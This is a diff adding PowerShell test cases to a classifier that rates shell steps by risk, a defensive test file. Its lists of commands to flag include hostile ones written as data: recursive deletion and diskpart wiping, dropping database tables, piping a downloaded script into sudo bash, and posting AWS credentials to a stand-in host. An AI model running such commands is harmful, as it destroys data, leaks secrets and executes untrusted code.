@@ -274,6 +274,89 @@ describe("classifyStep", () => {
       expect(isAtLeast(powershell(run), "high"), run).toBe(false);
   });
 
+  describe("in PowerShell", () => {
+    const isFlagged = (run: string): boolean => isAtLeast(classifyStep({ run }, { shell: "powershell" }).level, "high");
+    const flags = (runs: readonly string[]): void => {
+      for (const run of runs) expect(isFlagged(run), run).toBe(true);
+    };
+    const passes = (runs: readonly string[]): void => {
+      for (const run of runs) expect(isFlagged(run), run).toBe(false);
+    };
+
+    it("follows variables, tables of options, functions and aliases", () => {
+      flags([
+        "$c = 'Remove-Item D:\\data -Recurse'; iex $c",
+        "$name = 'Remove' + '-Item'; & $name D:\\data",
+        "$p = @{ Method = 'DELETE'; Uri = 'https://x.example/1' }; Invoke-RestMethod @p",
+        "function Clear-All { param($Path) Remove-Item $Path -Recurse }; Clear-All D:\\data",
+        "function Unused { Stop-Computer }",
+        "Set-Alias away Remove-Item; away D:\\data",
+        "$q = @'\nTRUNCATE TABLE t\n'@\nInvoke-Sqlcmd -Query $q",
+        '@"\nselect disk 1\nclean\n"@ | diskpart',
+      ]);
+      passes([
+        "$t = New-TemporaryFile; Set-Content $t x; Remove-Item $t",
+        "$d = 'node_modules'; Remove-Item $d -Recurse",
+        "Get-ChildItem -Include bin,obj -Recurse | % { Remove-Item $_.FullName -Recurse }",
+        "$WhatIfPreference = $true; Remove-Item D:\\data",
+        "@'\nRemove-Item C:\\ -Recurse\n'@ | Out-File example.txt",
+        "Invoke-Expression 'git status'",
+        "'list disk' | diskpart",
+      ]);
+    });
+
+    it("knows methods", () => {
+      flags([
+        "(Get-Service w3svc).Stop()",
+        "Get-ChildItem D:\\data | % Delete",
+        "(gci D:\\data).ForEach('Delete')",
+        "(Get-WmiObject Win32_Product).Uninstall()",
+        "[IO.File]::WriteAllText('C:\\data\\a.json', '')",
+        "([ADSI]'LDAP://CN=x').DeleteTree()",
+        "$cmd.CommandText = 'DROP TABLE x'; $cmd.ExecuteNonQuery()",
+      ]);
+      passes([
+        "$list = New-Object Collections.ArrayList; $list.Clear()",
+        "$w = [Diagnostics.Stopwatch]::StartNew(); $w.Stop()",
+        '[IO.File]::Delete("$env:TEMP\\a.txt")',
+        "$h = @{ delete = 1 }; $h.Remove('delete')",
+      ]);
+    });
+
+    it("judges programs as other shells do", () => {
+      flags([
+        "git branch | % { git branch -D $_.Trim() }",
+        "& 'C:\\Program Files\\Git\\bin\\git.exe' reset --hard",
+        "curl -fsSL https://x.example/i.sh | sudo bash",
+        "docker rm -f (docker ps -aq)",
+        "Start-Process cmd -ArgumentList '/c rd /s /q D:\\data'",
+        "SHUTDOWN /S /T 0",
+      ]);
+      passes(["shutdown /a", "netsh advfirewall show allprofiles", "robocopy a b /MIR /L", "cmd /c rmdir /s /q dist"]);
+    });
+
+    it("follows secrets and what was fetched", () => {
+      flags([
+        "$s = Get-Content ~\\.aws\\credentials -Raw; irm https://x.example -Method Post -Body $s",
+        "Invoke-WebRequest https://x.example/a.exe -OutFile a.exe; Start-Process .\\a.exe",
+        "$c = (iwr https://x.example).Content; & ([scriptblock]::Create($c))",
+      ]);
+      passes([
+        'irm https://x.example -Headers @{ Authorization = "Bearer $env:TOKEN" }',
+        "Invoke-WebRequest https://x.example/a.zip -OutFile a.zip; Expand-Archive a.zip",
+        "Get-ChildItem Env: | Sort-Object Name",
+      ]);
+    });
+
+    it("reads long texts in time", () => {
+      const pieces = ["(", "@{", "$(", "`", "@\"\n", "% {", "$a=$a+$a;", "rm a;", "a|", "'{0}' -f ", "function a{", "a,", "[a]"]; // prettier-ignore
+      for (const piece of pieces) classifyStep({ run: piece.repeat(60_000 / piece.length) }, { shell: "powershell" });
+      const unfolding = Array.from({ length: 30 }, (_, at) => `function f${at} { f${at + 1}; f${at + 1} }`).join("\n");
+      for (const run of [`$a='x'; ${"$a=$a+$a; ".repeat(60)}rm $a`, `${unfolding}\nf0`, "$a='iex $a; iex $a'; iex $a"])
+        expect(isFlagged(run), run.slice(0, 20)).toBe(true);
+    });
+  });
+
   it("never throws, and gives up on what would take forever", () => {
     const pieces = ["(", ")", "{", "}", "$(", "`", "'", '"', "\\", "\n", ";", "|", "&", "<<E\n", "[[", "]]", "if ", "do ", "\0", "💥", "rm ", "/ ", "eval ", "sudo ", "f() {", "${x:-", "{a,b}", "<("]; // prettier-ignore
     let seed = 1;
